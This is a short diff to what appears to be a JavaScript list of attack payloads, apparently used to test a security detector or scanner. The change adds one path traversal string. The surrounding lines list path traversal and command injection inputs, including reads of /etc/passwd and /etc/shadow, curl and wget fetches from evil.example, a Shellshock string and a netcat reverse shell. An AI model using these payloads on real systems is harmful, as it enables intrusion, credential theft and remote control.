@@ -61,7 +61,7 @@ const ATTACKS = {
   ],
   [INDICATOR.pathTraversal]: [
     "../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/etc/passwd", "..;/..;/manager/html", "php://filter/convert.base64-encode/resource=index", "file:///etc/hosts",
-    "../../../../boot.ini\u0000.png", "/../../../secret", "C:\\windows\\system32\\drivers\\etc\\hosts",
+    "../../../../boot.ini\u0000.png", "/../../../secret", "../../x", "C:\\windows\\system32\\drivers\\etc\\hosts",
   ],
   [INDICATOR.commandInjection]: [
     ";id", "| cat /etc/passwd", "`whoami`", "$(curl http://evil.example/x)", "x; /bin/ls -al", "a && wget http://evil.example/p.sh", "() { :;}; /bin/bash -c 'id'", "a|nc -e /bin/sh 10.0.0.9 4444",
